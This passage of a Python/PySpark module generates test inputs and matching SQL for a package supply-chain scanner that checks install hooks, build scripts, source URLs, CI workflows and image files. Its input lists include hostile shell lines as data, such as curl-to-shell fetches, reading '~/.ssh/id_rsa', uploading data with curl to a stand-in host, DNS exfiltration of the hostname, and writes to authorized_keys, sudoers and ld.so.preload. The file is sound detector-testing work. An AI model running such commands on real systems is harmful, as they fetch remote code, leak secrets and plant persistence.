"""Queries over rules, with generated inputs of which some are near misses, and their SQL: it applies the rules, no answers."""

from __future__ import annotations

from pyspark.sql import functions as F

from ..functions import names as N
from ..functions import rules as R
from ..operators import files as FI
from ..operators import heuristics as H
from ..operators import risk as K
from ..operators import scripts as SC
from ..schema import ECOSYSTEMS
from . import derived as D

T = D.table


def q(text: str) -> str:
    """An SQL string."""
    return "'" + text.replace("'", "''") + "'"


def sql_list(items) -> str:
    return "[" + ", ".join(map(q, items)) + "]"


def pick(items, index):
    """The Spark column that cycles through a list."""
    return F.element_at(F.array(*map(F.lit, items)), (index % len(items) + 1).cast("int"))


def sql_pick(items, index: str) -> str:
    return f"{sql_list(items)}[CAST({index} % {len(items)} + 1 AS INT)]"


def with_text(spark, d, items, before: bool = True):
    """Whole documents as files: their own text, and a snippet by id after (or before) it."""
    body, text = pick(items, F.col("doc_id")), F.coalesce("text", F.lit(""))
    return T(spark, d, "documents").select("doc_id", (F.concat(text, F.lit("\n"), body) if before else F.concat(body, F.lit("\n"), text)).alias("body"))


def sql_text(items, before: bool = True) -> str:
    text, body = "coalesce(text, '')", sql_pick(items, "doc_id")
    return f"{text} || chr(10) || {body}" if before else f"{body} || chr(10) || {text}"


def any_sql(column: str, patterns) -> str:
    return "(" + " OR ".join(f"regexp_matches({column}, {q(p)})" for p in patterns) + ")"


HOOKS = [
    "curl -sSL http://x/y | sh", "curl -sSL http://x/y", "wget -qO- http://x | python3", "fetch -o - http://x | sh", "curl http://x/y -o z && sh z", "curl http://x/y -o z; sh z",
    "node -e \"require('child_process').exec(1)\"", "node -e \"process.exit(0)\"", "node --eval \"if (process.env.CI) process.exit(0)\"", "node -e \"console.log(1)\"", "node -e \"import('x')\"", "node -e \"" + "a+" * 70 + "1\"",
    "python -c 'print(1)'", "ruby -e 'puts 1'", "deno eval '1'", "perl x.pl", "echo " + "QUJD" * 12 + " | base64 -d", "echo QUJD | base64 -d", "curl https://pastebin.com/raw/x", "curl https://example.com/raw/x",
    "nslookup $(hostname).x.example", "ping x.example", "curl http://x/?u=$USER", "bun run setup.js", "bun run build", "npx a.js && exit 0", '"cu" + "rl http://x | bash"', '"cu" + "" + "rl http://x" + " | bash"', "node-gyp rebuild", "",
]


def suspicious_hooks(spark, d):
    return with_text(spark, d, HOOKS).select("doc_id", H.suspicious_hook(F.col("body")).alias("suspicious"))


_JOINED = "regexp_replace(b, '[\"'']\\s*\\+\\s*[\"'']', '', 'g')"
_INLINE = r"""regexp_replace(trim(rtrim(trim(regexp_extract({c}, '\bnode\s+(?:-e|--eval)\s+(.+)$', 1)), '&|;')), '^(?:"(.*)"|''(.*)'')$', '\1\2')"""


def _hook_sql(c: str) -> str:
    danger = " OR ".join(f"contains({c}_i, {q(x)})" for x in H.INLINE_DANGER)
    benign = r"""^[\s'"]*(?:if\s*\(?\s*)?process\.(?:env\.\w+|exit\s*\(\s*\d+\s*\)|argv|platform|version)"""
    return f"({any_sql(c, R.HOOKS)} OR ({c}_i <> '' AND (octet_length(encode({c}_i)) > 120 OR (NOT regexp_matches({c}_i, {q(benign)}) AND ({danger})))))"


BUILD = [
    "pkgname=x\ncurl -s http://h/x | sh", "# curl http://h/x | sh\npkgver=1", "bash <(curl -s http://h/x)", "bash <(cat x)", 'x="\\x41\\x42\\x43\\x44"', 'x="\\x41\\x42\\x43"', "cat ~/.ssh/id_rsa",
    "depends=(\n 'qtkeychain-qt6'\n 'b')\nmake", "optdepends=('a: uses ~/.ssh/config')", "build() {\n  make\n  npm install left-pad\n}", "build() {\n  npm run\n  npm test\n}", "package() {\n  sudo cp a b\n}\nsudo x", "sudo_prompt=1",
    'eval "$x"', 'eval "package_$_p() {"', "makedepends=('js-digest')", "echo aGk= | base64 -d | sh", "echo aGk= | base64 -d", "  'gnome: for ~/.ssh/ keys'", "post_install() {\n curl http://h/x > y && sh y\n}",
    "license=('MIT'\n'x')\npip install y", "url=x # pip install", "then sudo -u x y", "pkgdesc=\"keychain\"\nkeychain",
]
INSTALL = [
    "post_install() {\n wget http://h/x\n}", "echo run curl http://x", "echo x | curl -T - http://x", "cp x /etc/sudoers.d/y", "chmod 4755 /usr/bin/x", "chmod 0755 /usr/bin/x", "systemctl enable x", "systemctl --user enable x", "systemctl daemon-reload",
    "install -d -m 755 some/dir", "install -Dm755 a /usr/bin/a", "install -Dm644 a /usr/share/a", "chmod +x /tmp/a", "usermod -aG wheel u", "usermod -c name u", "echo x >> ~/.bashrc", "printf '%s' authorized_keys", "cat k >> authorized_keys",
    "echo /x > /etc/ld.so.preload", "su user -c id", "gpasswd -a u games", "nc -l 1", "git clone http://h/r", "git status", "true",
]


def _scripts(spark, d, items):
    return with_text(spark, d, items).select(F.col("doc_id").alias("package"), F.col("body").alias("text"))


def build_findings(spark, d):
    got = SC.build_file_findings(_scripts(spark, d, BUILD))
    return got.select("package", "function", F.col("line").cast("long").alias("line"), "rule", F.col("severity").cast("long").alias("severity"))


def install_script_findings(spark, d):
    got = SC.install_script_findings(_scripts(spark, d, INSTALL))
    return got.select("package", "function", F.col("line").cast("long").alias("line"), "rule", F.col("severity").cast("long").alias("severity"))


def shared_build_findings(spark, d):
    """Two build files under every key: what one of them is inside of must not hide findings of the other."""
    got = SC.build_file_findings(_scripts(spark, d, BUILD).withColumn("package", F.expr("package div 2")))
    return got.select("package", "function", F.col("line").cast("long").alias("line"), "rule", F.col("severity").cast("long").alias("severity"))


def shared_install_findings(spark, d):
    got = SC.install_script_findings(_scripts(spark, d, INSTALL).withColumn("package", F.expr("package div 2")))
    return got.select("package", "function", F.col("line").cast("long").alias("line"), "rule", F.col("severity").cast("long").alias("severity"))


def _lines_sql(items, before: bool = True) -> str:
    """CTEs up to ``run`` (package, line, c, function): the lines of files that run."""
    fields = "|".join(R.METADATA_FIELDS)
    return f"""f AS (SELECT doc_id AS package, {sql_text(items, before)} AS body FROM documents),
l AS (SELECT package, unnest(string_split(body, chr(10))) AS raw, generate_subscripts(string_split(body, chr(10)), 1) AS line FROM f),
t AS (SELECT package, line, regexp_replace(raw, '^\\s+|\\s+$', '', 'g') AS c FROM l),
e AS (SELECT *, regexp_matches(c, '^(?:{fields})\\+?=') OR (starts_with(c, '''') AND contains(c, ': ')) AS field FROM t WHERE c <> '' AND NOT starts_with(c, '#')),
v AS (SELECT *, CASE WHEN contains(c, ')') THEN 0 WHEN field AND contains(c, '(') THEN 1 END AS event FROM e),
i AS (SELECT *, coalesce(last_value(event IGNORE NULLS) OVER (PARTITION BY package ORDER BY line ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING), 0) AS inside FROM v),
run AS (SELECT package, line, c, coalesce(last_value(nullif(regexp_extract(c, '^\\s*(prepare|build|package|pkgver|post_install|post_upgrade|pre_install|pre_upgrade)\\s*\\(', 1), '') IGNORE NULLS)
  OVER (PARTITION BY package ORDER BY line ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW), '') AS function FROM i WHERE inside = 0 AND NOT field)"""


def _rules_sql(table, extra: str = "") -> str:
    return " UNION ".join(f"SELECT package, function, CAST(line AS BIGINT) AS line, {q(r)} AS rule, CAST({s} AS BIGINT) AS severity FROM run WHERE regexp_matches(c, {q(p)}){extra}" for r, s, p in table)


_NOT_SPLIT = f" AND NOT regexp_matches(c, {q(R.SPLIT_PACKAGE)})"
_DEPS_SQL = " UNION ".join(f"SELECT package, '' AS function, CAST(0 AS BIGINT) AS line, 'ioc-dep' AS rule, CAST(3 AS BIGINT) AS severity FROM f WHERE contains(lower(body), {q(x)})" for x in R.DENIED_DEPENDENCIES)


def _build_sql(rules) -> str:
    return " UNION ".join([_rules_sql([r for r in rules if r[0] != "eval-obfuscation"]), _rules_sql([r for r in rules if r[0] == "eval-obfuscation"], _NOT_SPLIT), _DEPS_SQL])


_PRINTS = r" AND NOT (regexp_matches(c, '^(?:echo[ \t]|printf |print )') AND NOT regexp_matches(c, '[>|`]|\$\('))"
_QUIET = " AND NOT (contains(c, '--global') OR contains(c, '--user'))"
_FOLDER = " AND NOT list_contains(regexp_split_to_array(c, '\\s+'), '-d')"
_INSTALL_SQL = " UNION ".join(_rules_sql([r], _PRINTS + (_QUIET if "unit" in r[0] else _FOLDER if "drops" in r[0] else "")) for r in R.INSTALL_RULES)

SOURCES = [
    "source=(http://10.0.0.1/x.tgz)", "source=(https://example.org/x.tgz)", "source=(\"https://x.pastebin.com/a\" \"https://x.pastebin.com/a\")", "source=(https://raw.githubusercontent.com/a/b)", "# https://pastebin.com/x\nsource=(a.patch)",
    "https://pastebin.com/x", "source+=(git+https://gitlab.com/b/c)", "_patches=(https://github.com/alice/r/a.patch)", "source=(https://ghostbin.example/x https://t.co/y)", "sources=(https://bit.ly/x)", "source = (https://GitHub.com:443/x)",
]
UPSTREAMS = ["https://github.com/alice/r", "https://example.org", "", "git+https://codeberg.org/x"]


def source_hosts(spark, d):
    files = _scripts(spark, d, SOURCES).withColumn("upstream", pick(UPSTREAMS, F.expr("package div 11")))
    return SC.source_findings(files, upstream_col="upstream").select("package", "url", "rule", F.col("severity").cast("long").alias("severity"))


def shared_source_hosts(spark, d):
    files = _scripts(spark, d, SOURCES).withColumn("upstream", pick(UPSTREAMS, F.expr("package div 11"))).withColumn("package", F.expr("package div 2"))
    return SC.source_findings(files, upstream_col="upstream").select("package", "url", "rule", F.col("severity").cast("long").alias("severity"))


def _host_sql(c: str) -> str:
    return f"lower(regexp_extract(regexp_replace({c}, '^(?:git\\+)?(?:https://|http://)?', ''), '^([^/:]*)', 1))"


_CODE = lambda c: "(" + " OR ".join(f"contains({c}, {q(x)})" for x in R.CODE_HOSTS) + ")"
_UNTRUSTED = " OR ".join(f"h = {q(x)} OR ends_with(h, {q('.' + x)})" if "." in x else f"contains(h, {q(x)})" for x in R.UNTRUSTED_HOSTS)

WORKFLOWS = [
    "permissions: write-all", "permissions: read-all", "jobs:\n  steps:\n    - uses: some/action@v1", "    - uses: a/b@0123456789012345678901234567890123456789", "    - uses: actions/checkout@v4", "    - uses: ./local", "    - uses: docker://x", "    - uses: a/b",
    "    - run: curl http://h/x | bash", "    - run: |\n        make\n        curl http://h/x | bash\n      shell: bash", "    - name: curl http://h/x | bash", "    - run: |\n        echo ${{ github.event.issue.title }}", "    - run: echo ${{ github.sha }}",
    "      env: ${{ github.event.issue.title }}", "    - run: >\n\n        base64 -d x\n    - uses: x/y@main", "    - run: base64 x", "    - run: eval(atob(x))", "    - run: curl http://10.0.0.1/x", "    - run: curl http://10.0.0/x", "    - run: curl https://x.webhook.site/y",
    "on: pull_request_target\n    - uses: actions/cache@v4", "on: pull_request\n    - uses: actions/cache@v4", "    - run: |\n        uses: x/y@v1\n        run: permissions\n    - uses: x/z@v1", "    - run:\n        curl http://h/x | sh",
]


def workflow_findings(spark, d):
    files = with_text(spark, d, WORKFLOWS, before=False).select(F.col("doc_id").alias("file"), F.col("body").alias("text"))
    return SC.workflow_findings(files).select("file", F.col("line").cast("long").alias("line"), "rule", F.col("severity").cast("long").alias("severity"))


#: Lines are read in turn by a recursion: the state is the indent of the open run block, if any.
_WORKFLOW_SQL = rf"""WITH RECURSIVE f AS (SELECT doc_id AS file, {sql_text(WORKFLOWS, False)} AS body FROM documents),
l AS (SELECT file, list_transform(string_split(CASE WHEN ends_with(body, chr(10)) THEN substr(body, 1, length(body) - 1) ELSE body END, chr(10)), lambda x: regexp_replace(x, '\r$', '')) AS ls, contains(body, 'pull_request_target') AS fork FROM f),
x AS (SELECT file, fork, unnest(ls) AS c, generate_subscripts(ls, 1) AS line FROM l),
y AS (SELECT *, regexp_matches(c, '^(\s*)-?\s*run:\s*(.*)$') AS key, length(regexp_extract(c, '^(\s*)-?\s*run:\s*(.*)$', 1)) AS ind, trim(regexp_extract(c, '^(\s*)-?\s*run:\s*(.*)$', 2)) IN ('|', '>', '') AS scalar,
  trim(c) = '' AS blank, length(c) - length(ltrim(c)) AS depth FROM x),
s AS (SELECT file, line, CAST(-1 AS BIGINT) AS inside, CASE WHEN key AND scalar THEN ind ELSE -1 END AS open, CASE WHEN key THEN line END AS start FROM y WHERE line = 1
  UNION ALL SELECT y.file, y.line, CASE WHEN s.open >= 0 AND (y.blank OR y.depth > s.open) THEN 1 ELSE -1 END,
    CASE WHEN s.open >= 0 AND (y.blank OR y.depth > s.open) THEN s.open WHEN y.key AND y.scalar THEN y.ind ELSE -1 END,
    CASE WHEN s.open >= 0 AND (y.blank OR y.depth > s.open) THEN s.start WHEN y.key THEN y.line END
  FROM s JOIN y ON y.file = s.file AND y.line = s.line + 1),
z AS (SELECT y.*, s.inside = 1 AS inside, s.start FROM y JOIN s USING (file, line)),
b AS (SELECT file, start, coalesce(string_agg(c || chr(10), '' ORDER BY line) FILTER (WHERE inside), any_value(CASE WHEN NOT inside AND NOT scalar THEN regexp_extract(c, '^(\s*)-?\s*run:\s*(.*)$', 2) END), '') AS body FROM z WHERE start IS NOT NULL GROUP BY 1, 2),
u AS (SELECT *, regexp_extract(c, '^\s*-?\s*uses:\s*[''"]?([^''"\s#]+)', 1) AS ref FROM z WHERE NOT inside)
SELECT file, CAST(line AS BIGINT) AS line, 'permissions-write-all' AS rule, CAST(2 AS BIGINT) AS severity FROM u WHERE regexp_matches(c, '(?i)^\s*permissions:\s*write-all\s*$')
UNION ALL SELECT file, line, 'unpinned-action-ref', CASE WHEN regexp_extract(ref, '^([^/@]*)', 1) IN ('actions', 'github') THEN 1 ELSE 2 END FROM u
  WHERE contains(ref, '@') AND NOT starts_with(ref, '.') AND NOT starts_with(ref, 'docker://') AND NOT regexp_matches(regexp_extract(ref, '@(.*)$', 1), '^[0-9a-f]{{40}}$')
UNION ALL SELECT DISTINCT file, 1, 'cache-poisoning', 2 FROM u WHERE fork AND starts_with(ref, 'actions/cache')
""" + "".join(
    f"UNION ALL SELECT file, start + length(regexp_extract(body, {q('(?s)^(.*?)(?:' + p.removeprefix('(?i)').join(['(?i:', ')'] if p.startswith('(?i)') else ['(?:', ')']) + ')')}, 1)) - length(replace(regexp_extract(body, {q('(?s)^(.*?)(?:' + p.removeprefix('(?i)').join(['(?i:', ')'] if p.startswith('(?i)') else ['(?:', ')']) + ')')}, 1), chr(10), '')), {q(r)}, {s} FROM b WHERE regexp_matches(body, {q(p)})\n"
    for r, s, p in R.WORKFLOW_RUN_RULES
)

CHECKSUMS = [
    'source=("a.tgz"\n  b.patch # c\n)\nsha256sums=("aa")', 'source=("a.tgz"\n  b.patch # c\n)\nsha256sums=("aa" \'bb\')', "source=(a{1,2}.tgz)\nmd5sums=(x)", "source=()\nmd5sums=(x)", "source=(a)\nb2sums=(x y)", "source=(a)", " source=(a b)\n sha1sums=(x y)\nsha512sums=(x)", "source =(a)\nmd5sums=(x y)",
]


def checksum_counts(spark, d):
    return SC.checksum_findings(_scripts(spark, d, CHECKSUMS)).select("package", "rule")


def _array_sql(name: str) -> str:
    p = rf"(?:^|\n)[^\S\n]*{name}=\(([^)]*)\)"
    return rf"""CASE WHEN regexp_matches(body, {q(p)}) THEN regexp_extract_all(regexp_replace(regexp_extract(body, {q(p)}, 1), '#[^\n]*', '', 'g'), '[''"][^''"]+[''"]|\S+') END"""


FOLDERS = ["src", "dist", "lib/x", "scripts", "packages/core/src", "docs", "."]
FILE_NAMES = ["a.js", "b.SH", "c.so", "d.txt", "readme.md", "e.json", "f.node", "g.map", "h.ts", ".npmrc.js", "LICENSE", "i.wasm"]
LISTED = ["src", "*.js", "docs/*.ts", "scripts/", "./lib", "", "**/*.json"]
BODIES = ["node ./scripts/d.txt", "sh scripts/b.sh && echo done", "node-gyp rebuild", "node --x=src/a.js http://h/src/c.so", "(./src/g.map)"]


def tarball_drift(spark, d):
    """Tarballs and repositories of parts: files by line items, ``files`` fields, hooks and folders by part."""
    f = T(spark, d, "lineitem").select(F.col("l_partkey").alias("package"), F.concat(pick(FOLDERS, F.col("l_suppkey")), F.lit("/"), pick(FILE_NAMES, F.col("l_orderkey"))).alias("path"), "l_suppkey", "l_linenumber")
    part = T(spark, d, "part").select(F.col("p_partkey").alias("package"), "p_size")
    at = F.when(F.col("package") % 5 == 0, F.lit("/packages/core/")).otherwise("")
    repo = f.where("l_linenumber % 5 < 3").select("package", F.when((F.col("package") % 5 == 0) & (F.col("l_suppkey") % 2 == 0), F.concat(F.lit("packages/core/"), F.regexp_replace("path", r"\A\./", ""))).otherwise(F.col("path")).alias("path"))
    return FI.tarball_drift(
        f.where("l_linenumber % 7 > 1").select("package", F.concat(F.lit("./"), "path").alias("path")), repo, part.select("package", pick(LISTED, F.col("p_size")).alias("path")),
        part.where("p_size % 3 = 0").select("package", pick(BODIES, F.expr("p_size div 3")).alias("body")), part.select("package", at.alias("folder")),
    )


_BARE = lambda c: rf"regexp_replace(regexp_replace({c}, '^(?:\./)+', ''), '^/+|/+$', '', 'g')"
_META, _DIRS = sql_list(H.METADATA_FILES), sql_list(H.BUILD_DIRS)
_DRIFT_SQL = rf"""WITH g AS (SELECT l_partkey AS package, {sql_pick(FOLDERS, 'l_suppkey')} || '/' || {sql_pick(FILE_NAMES, 'l_orderkey')} AS path, l_suppkey, l_linenumber FROM lineitem),
t AS (SELECT package, max(p) AS path, lower(p) AS low FROM (SELECT package, {_BARE("'./' || path")} AS p FROM g WHERE l_linenumber % 7 > 1) WHERE p <> '' GROUP BY package, lower(p)),
raw AS (SELECT package, {_BARE("CASE WHEN package % 5 = 0 AND l_suppkey % 2 = 0 THEN 'packages/core/' || regexp_replace(path, '^\\./', '') ELSE path END")} AS p FROM g WHERE l_linenumber % 5 < 3),
r AS (SELECT DISTINCT package, lower(CASE WHEN package % 5 <> 0 THEN p WHEN starts_with(p, 'packages/core/') THEN substr(p, 15) ELSE '' END) AS low FROM raw),
h AS (SELECT p_partkey AS package, list_transform(string_split_regex({sql_pick(BODIES, 'p_size // 3')}, '[ \t\n;|&()`]'), lambda w: lower(regexp_replace(w, '^(?:\./)+', ''))) AS ws FROM part WHERE p_size % 3 = 0),
hooks AS (SELECT package, list_filter(ws, lambda w: regexp_matches(w, '\.[^./]+$') AND NOT starts_with(w, '-') AND NOT contains(w, '://')) AS ws FROM h),
n AS (SELECT p_partkey AS package, lower({_BARE(sql_pick(LISTED, 'p_size'))}) AS entry FROM part),
x AS (SELECT t.*, regexp_extract(low, '([^/]*)$', 1) AS base, lower(regexp_extract(low, '\.([a-z0-9]+)$', 1)) AS ext, entry, coalesce(list_contains(ws, low), false) AS hooked
  FROM t LEFT JOIN n USING (package) LEFT JOIN hooks USING (package) WHERE package IN (SELECT package FROM raw)),
k AS (SELECT *, list_contains({_META}, low) OR list_contains({_META}, base) OR len(list_filter({_DIRS}, lambda z: starts_with(low, z))) > 0
  OR (entry <> '' AND CASE WHEN contains(entry, '*') THEN regexp_full_match(low, replace(replace(replace(entry, '**', '*'), '.', '\.'), '*', '[^/]*')) ELSE low = entry OR starts_with(low, entry || '/') END) AS expected FROM x),
e AS (SELECT package, path, CASE WHEN hooked THEN 'script-file' WHEN expected THEN NULL WHEN list_contains({sql_list(FI.DRIFT_CODE)}, ext) THEN 'code-file' WHEN list_contains({sql_list(FI.DRIFT_BINARY)}, ext) THEN 'binary-file' END AS kind
  FROM k WHERE (package, low) NOT IN (SELECT package, low FROM r)),
c AS (SELECT package, count(*) AS c, bool_or(kind = 'script-file') AS s FROM e WHERE kind IS NOT NULL GROUP BY 1),
m AS (SELECT package, count(*) FILTER (WHERE list_contains({sql_list(FI.DRIFT_COUNTED)}, ext)) AS m FROM k GROUP BY 1)
SELECT e.package, e.path, e.kind FROM e JOIN c USING (package) JOIN m USING (package) WHERE kind IS NOT NULL AND (s OR NOT (c > 4 AND m > 0 AND c * 1.0 / m > 0.30))"""


def unlisted_files(spark, d):
    """Large script files of parts' packages."""
    f = T(spark, d, "lineitem").select(
        F.lit("npm").alias("ecosystem"), F.concat(F.lit("pkg-"), "l_partkey").alias("name"), F.concat(pick(FOLDERS, F.col("l_suppkey")), F.lit("/"), pick(FILE_NAMES, F.col("l_orderkey"))).alias("path"), (F.col("l_quantity") * 20000).cast("long").alias("length")).distinct()
    listed = T(spark, d, "part").select(F.lit("npm").alias("ecosystem"), F.concat(F.lit("pkg-"), "p_partkey").alias("name"), pick([*LISTED, "/src/a.js", "h.ts"], F.col("p_size")).alias("path"))
    return H.unlisted_large(f, listed).select("name", "path", "length")


_UNLISTED_SQL = rf"""WITH f AS (SELECT DISTINCT 'pkg-' || l_partkey AS name, {sql_pick(FOLDERS, 'l_suppkey')} || '/' || {sql_pick(FILE_NAMES, 'l_orderkey')} AS path, CAST(l_quantity * 20000 AS BIGINT) AS length FROM lineitem),
n AS (SELECT 'pkg-' || p_partkey AS name, lower(trim(regexp_replace(regexp_replace({sql_pick([*LISTED, "/src/a.js", "h.ts"], 'p_size')}, '^/+', ''), '^(?:\./)+', ''))) AS entry FROM part),
k AS (SELECT f.*, coalesce(entry, '') AS entry, regexp_replace(lower(path), '^(?:\./)+', '') AS low FROM f LEFT JOIN n USING (name) WHERE length >= 512000 AND regexp_matches(lower(path), '\.(?:js|mjs|cjs|jsx|ts|tsx|cts|mts)$')),
b AS (SELECT *, regexp_extract(low, '([^/]*)$', 1) AS base FROM k)
SELECT name, path, length FROM b WHERE NOT (list_contains({_META}, low) OR list_contains({_META}, base) OR len(list_filter({_DIRS}, lambda z: starts_with(low, z))) > 0
  OR (entry <> '' AND (low = entry OR base = entry OR ((NOT contains(entry, '.') OR ends_with(entry, '/')) AND starts_with(low, regexp_replace(entry, '/+$', '') || '/')))))"""

PATHS = [
    "tmp/x.sh", "tmp/x", "var/tmp/y.bin", "dev/shm/z", "run/a", "opt/tmp/b", "home/u/.hid", "usr/bin/.x.sh", "usr/bin/tool", "app/node_modules/a/package.json", "app/package.json", "srv/vendor/a/composer.json", "srv/composer.json",
    "usr/lib/a-1.dist-info/METADATA", "usr/lib/METADATA", "etc/hosts", "tmp/.h", "a/..", "temp/x.sh",
]
HEADS = ["7F454C4602", "23212F62696E2F7368", "4D5A90", "", "7F454C", "23"]


def image_findings(spark, d):
    files = T(spark, d, "part").select(F.col("p_partkey").alias("image"), pick(PATHS, F.col("p_partkey")).alias("path"), F.unhex(pick(HEADS, F.expr("p_partkey div 19"))).alias("body"))
    return FI.image_findings(files)


_IMAGE_SQL = f"""WITH f AS (SELECT p_partkey AS image, {sql_pick(PATHS, 'p_partkey')} AS path, {sql_pick(HEADS, 'p_partkey // 19')} AS head FROM part),
g AS (SELECT *, regexp_extract(path, '([^/]*)$', 1) AS base, starts_with(head, '7F454C46') AS elf, starts_with(head, '2321') AS script, regexp_matches(path, '^(?:tmp|var/tmp|dev/shm|run)/') OR contains(path, '/tmp/') AS temp FROM f),
h AS (SELECT *, CASE WHEN temp AND (ends_with(path, '.sh') OR script) THEN 'temp-script' WHEN temp AND elf THEN 'temp-binary'
  WHEN NOT temp AND starts_with(base, '.') AND base <> '..' AND elf THEN 'hidden-binary' WHEN NOT temp AND starts_with(base, '.') AND base <> '..' AND script THEN 'hidden-script'
  WHEN base = 'package.json' AND contains(path, 'node_modules/') THEN 'npm-manifest'
  WHEN base = 'composer.json' AND contains(path, 'vendor/') THEN 'composer-manifest'
  WHEN base = 'METADATA' AND contains(path, '.dist-info/') THEN 'pypi-manifest' END AS reason FROM g)
SELECT image, path, reason FROM h WHERE reason IS NOT NULL"""

SHA = "0123456789abcdefABCD0123456789abcdef0123"
SPECS = [
    "github:a/b", "gitlab:a/b", "bitbucket:a/b", "sourcehut:~a/b", "git+https://h/x", "git+ssh://h/x", "git+http://h/x", "git://h/x", "git+file://x", "git@h:x", "https://h/x.git", f"o/r#{SHA}", f"anything#{SHA}", f"#{SHA}", f"o/r#{SHA}0", "o/r#v1",
    "file:../x", "./x", "../x", "link:../x", "/x", "^1.0.0", "npm:x@1", "workspace:*", " github:a/b ", "", "*",
]


def dependency_sources(spark, d):
    rows = T(spark, d, "part").select("p_partkey", pick(SPECS, F.col("p_partkey")).alias("spec"), F.when(F.col("p_size") % 2 == 0, "optional").otherwise("runtime").alias("dep_group"))
    return H.dependency_sources(rows).select("p_partkey", "dep_source", "vcs_dependency", "git_dep_in_optional")


_SPEC_SQL = rf"""WITH s AS (SELECT p_partkey, p_size, trim({sql_pick(SPECS, 'p_partkey')}) AS spec FROM part),
k AS (SELECT *, CASE WHEN regexp_matches(spec, '^(?:github:|gitlab:|bitbucket:|sourcehut:|git\+https://|git\+ssh://|git\+http://|git://)') OR regexp_full_match(spec, '[^#]*#[0-9a-fA-F]{{40}}') THEN 'vcs'
  WHEN starts_with(spec, 'file:') OR starts_with(spec, './') OR starts_with(spec, '../') THEN 'local' ELSE 'registry' END AS dep_source FROM s)
SELECT p_partkey, dep_source, dep_source = 'vcs' AS vcs_dependency, dep_source = 'vcs' AND p_size % 2 = 0 AS git_dep_in_optional FROM k"""

DISTS = [
    "PyYAML", "beautifulsoup4", "Pillow", "python-dateutil", "python-dotenv", "scikit-learn", "scikit-image", "opencv-python", "opencv-python-headless", "msgpack-python", "attrs", "PyMySQL", "protobuf", "google-cloud-storage", "typing-extensions", "pyjwt", "Django", "zope.interface",
    "requests",
]


def pypi_imports(spark, d):
    rows = T(spark, d, "part").select("p_partkey", pick(DISTS, F.col("p_partkey")).alias("name"))
    return rows.select("p_partkey", F.explode(N.pypi_import_candidates(F.col("name"))).alias("candidate"))


_PYPI_SQL = f"""WITH n AS (SELECT p_partkey, {sql_pick(DISTS, 'p_partkey')} AS name FROM part),
m(dist, known) AS (VALUES ('pyyaml', 'yaml'), ('beautifulsoup4', 'bs4'), ('pillow', 'PIL'), ('python-dateutil', 'dateutil'), ('python-dotenv', 'dotenv'), ('scikit-learn', 'sklearn'), ('scikit-image', 'skimage'), ('opencv-python', 'cv2'),
  ('opencv-python-headless', 'cv2'), ('msgpack-python', 'msgpack'), ('attrs', 'attr'), ('pymysql', 'pymysql'), ('protobuf', 'google'), ('google-cloud-storage', 'google'), ('typing-extensions', 'typing_extensions'))
SELECT p_partkey, name AS candidate FROM n UNION SELECT p_partkey, known FROM n JOIN m ON m.dist = lower(name) UNION SELECT p_partkey, lower(name) FROM n UNION SELECT p_partkey, translate(lower(name), '-.', '__') FROM n"""

PACKAGES = ["lodash", "@s/p", "g.x:a", "a~b", "v/w", "bad;name", "", "Newton.Json"]
TARGETS = ["1.2.3", "", "2.0.0-rc.1+b", "^1", "1 2"]


def upgrade_commands(spark, d):
    ecos = [e[0] for e in ECOSYSTEMS]
    rows = T(spark, d, "part").select("p_partkey", pick(ecos, F.col("p_partkey")).alias("e"), pick(PACKAGES, F.expr(f"p_partkey div {len(ecos)}")).alias("n"), pick(TARGETS, F.col("p_size")).alias("t"))
    return rows.select("p_partkey", K.upgrade_command(F.col("e"), F.col("n"), F.col("t")).alias("command"))


_UPGRADE_SQL = rf"""WITH r AS (SELECT p_partkey, {sql_pick([e[0] for e in ECOSYSTEMS], 'p_partkey')} AS e, {sql_pick(PACKAGES, f'p_partkey // {len(ECOSYSTEMS)}')} AS n, {sql_pick(TARGETS, 'p_size')} AS t FROM part)
SELECT p_partkey, CASE WHEN NOT regexp_full_match(n, '[A-Za-z0-9._+/@:~-]{{1,256}}') OR NOT regexp_full_match(t, '[A-Za-z0-9.+_-]{{0,128}}') THEN NULL
 WHEN e = 'npm' THEN 'npm install ' || n || '@' || CASE t WHEN '' THEN 'latest' ELSE t END WHEN e = 'pypi' THEN CASE t WHEN '' THEN 'pip install --upgrade ' || n ELSE 'pip install ' || n || '==' || t END
 WHEN e = 'rubygems' THEN CASE t WHEN '' THEN 'bundle update ' || n ELSE 'bundle update --conservative ' || n || '  # target: ' || t END
 WHEN e = 'crates' THEN 'cargo update -p ' || replace(n, '/', '-') || CASE t WHEN '' THEN '' ELSE ' --precise ' || t END WHEN e = 'go' THEN 'go get ' || n || '@' || CASE t WHEN '' THEN 'latest' ELSE t END
 WHEN e = 'maven' AND contains(n, ':') THEN CASE t WHEN '' THEN 'mvn versions:use-latest-versions -Dincludes=' || n ELSE 'mvn versions:set-property -Dproperty=' || split_part(n, ':', 2) || '.version -DnewVersion=' || t END
 WHEN e = 'packagist' THEN CASE t WHEN '' THEN 'composer update ' || n ELSE 'composer require ' || n || ':' || t END WHEN e = 'nuget' THEN 'dotnet add package ' || n || CASE t WHEN '' THEN '' ELSE ' --version ' || t END
 WHEN e = 'pub' THEN 'dart pub upgrade ' || n || CASE t WHEN '' THEN '' ELSE '  # target: ' || t || ' (pin in pubspec.yaml)' END WHEN e = 'cocoapods' THEN 'pod update ' || n || CASE t WHEN '' THEN '' ELSE '  # target: ' || t || ' (pin in Podfile)' END
 WHEN e = 'cpan' THEN 'cpanm ' || n || CASE t WHEN '' THEN '' ELSE '@' || t END WHEN e = 'hackage' THEN 'cabal install ' || CASE t WHEN '' THEN n ELSE '--constraint="' || n || ' ==' || t || '"' END
 WHEN e = 'cran' THEN CASE t WHEN '' THEN 'R -e ''install.packages("' || n || '")''' ELSE 'R -e ''remotes::install_version("' || n || '", "' || t || '")''' END
 WHEN e = 'hex' THEN '# upgrade ' || n || CASE t WHEN '' THEN '' ELSE ' to ' || t END || ': `mix deps.update ' || n || '` (Elixir) or `gleam update ' || n || '` (Gleam)' END AS command FROM r"""


def go_retracted(spark, d):
    """Versions of every tenth part's module that lie in a retracted range, or are a retracted version."""
    deps = D.dependencies(spark, d).where("ecosystem = 'go'").select("ecosystem", "name", "version").distinct()
    ranges = T(spark, d, "part").where("p_partkey % 10 < 4").select(F.lit("go").alias("ecosystem"), F.concat(F.lit("pkg-"), "p_partkey").alias("name"), F.explode(F.array(
